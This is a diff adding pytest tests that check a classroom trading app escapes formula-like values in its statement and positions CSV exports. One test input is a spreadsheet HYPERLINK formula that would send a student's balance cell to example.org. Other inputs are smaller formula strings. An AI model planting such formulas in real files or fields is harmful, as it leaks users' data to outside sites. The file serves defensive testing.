@@ -1,0 +1,67 @@
+"""The student's CSV exports keep text that others typed as text in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+
+from accounts.models import Classroom
+from accounts.services import account_adjust
+from positions.services import position_close, position_open
+from tests.factories import make_instrument
+
+pytestmark = pytest.mark.django_db
+
+# What an instructor could type as a grant's reason: opened in a spreadsheet, it would send
+# the cell next to it (the student's balance) to another site.
+HYPERLINK = '=HYPERLINK("https://example.org/?b="&G3,"Bonus")'
+
+
+def _rows(client, name, account):
+    response = client.get(reverse(name, args=[account.pk]))
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize("reason", [HYPERLINK, "+1+2", "-2+3", "@SUM(1,2)"])
+def test_a_grant_reason_that_reads_as_a_formula_is_text_in_the_statement_csv(
+    alice_client, account, reason
+):
+    account_adjust(account_id=account.pk, amount=Decimal(5), reason=reason)
+    memos = [row["memo"] for row in _rows(alice_client, "statement-csv", account)]
+    assert memos == ["Starting balance", "'" + reason]
+
+
+def test_ordinary_memos_and_negative_amounts_are_written_as_they_are(alice_client, account, btc):
+    position = position_open(
+        account_id=account.pk, instrument_id=btc.pk, side="long", quantity="0.5", leverage=20
+    )
+    rows = _rows(alice_client, "statement-csv", account)
+    assert rows[1]["memo"].startswith("Open long 0.5 BTCUSDT")
+    assert Decimal(rows[1]["amount"]) < 0 and not rows[1]["amount"].startswith("'")
+    position_close(position_id=position.pk)
+    (closed,) = _rows(alice_client, "positions-csv", account)
+    assert closed["instrument"] == "BTCUSDT"
+
+
+def test_a_symbol_and_currency_that_read_as_formulas_are_text_in_the_csv_exports(
+    alice_client, account
+):
+    Classroom.objects.filter(pk=account.classroom_id).update(currency="=1+2")
+    instrument = make_instrument(account.classroom, symbol="=2+3")
+    position = position_open(
+        account_id=account.pk,
+        instrument_id=instrument.pk,
+        side="short",
+        quantity="0.5",
+        leverage=20,
+    )
+    position_close(position_id=position.pk)
+    (closed,) = _rows(alice_client, "positions-csv", account)
+    assert (closed["instrument"], closed["currency"]) == ("'=2+3", "'=1+2")
+    statement = _rows(alice_client, "statement-csv", account)
+    assert {row["currency"] for row in statement} == {"'=1+2"}
